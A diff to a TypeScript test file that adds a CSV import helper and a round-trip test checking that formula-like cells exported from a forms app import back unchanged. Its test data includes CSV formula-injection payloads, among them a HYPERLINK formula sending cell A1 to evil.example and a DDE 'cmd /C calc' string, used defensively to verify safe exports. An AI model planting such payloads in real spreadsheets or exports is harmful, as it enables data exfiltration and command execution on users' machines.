@@ -12,6 +12,19 @@ async function download(s: TestServer, client: Client, path: string) {
   return { status: res.status, bytes: new Uint8Array(await res.arrayBuffer()) };
 }
 
+async function importAndWait(client: Client, formId: string, bytes: Uint8Array) {
+  const form = new FormData();
+  form.append('file', new Blob([bytes as BlobPart]), 'export.csv');
+  const r = await client.raw('POST', `/api/forms/${formId}/import`, { body: form });
+  expect(r.status, JSON.stringify(r.body)).toBe(202);
+  for (let i = 0; i < 600; i++) {
+    const job = (await client.get(`/api/imports/${r.body.jobId}`)).body;
+    if (job.status === 'succeeded' || job.status === 'failed') return job;
+    await new Promise((res) => setTimeout(res, 20));
+  }
+  throw new Error('import did not finish');
+}
+
 /** Text a spreadsheet would run as a formula, and plain values next to it. */
 const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tcmd', '\rcmd'];
 const harmless = ['普通客户', 'a=b', "it's", ' =1'];
@@ -69,6 +82,18 @@ describe.each(engines)('exports are safe to open and need their own right on %s'
     expect(byName[0].slice(1)).toEqual(['-5', '-12.5']);
     // Every cell of the file, read as a spreadsheet would, starts harmlessly.
     for (const row of rows) for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('imports a quoted CSV cell back as the text that was exported', async () => {
+    // (Leading and trailing blanks are trimmed by the import, tabs and CRs with them: those are left out.)
+    const fields = [{ key: 'name', type: 'text', label: '客户名称' }, { key: 'score', type: 'number', label: '=1+1' }, { key: 'amount', type: 'currency', label: '金额' }];
+    const copy = (await admin.post(`/api/apps/${form.appId}/forms`, { key: 'customersCopy', name: '客户副本', fields })).body;
+    const filter = encodeURIComponent(JSON.stringify({ field: 'name', op: 'in', value: [...attacks.slice(0, 4), ...harmless.slice(0, 3)] }));
+    const file = await download(s, exporter, `/api/forms/${form.id}/export?format=csv&filter=${filter}`);
+    const job = await importAndWait(admin, copy.id, file.bytes);
+    expect(job, JSON.stringify(job.errors)).toMatchObject({ status: 'succeeded', created: 7, failed: 0 });
+    const listing = async (id: string) => (await admin.get(`/api/forms/${id}/records?filter=${filter}&sort=name`)).body.items.map((x: any) => x.fields);
+    expect(await listing(copy.id)).toEqual(await listing(form.id));
   });
 
   it('writes XLSX text as strings, never formulas, with the values unchanged', async () => {
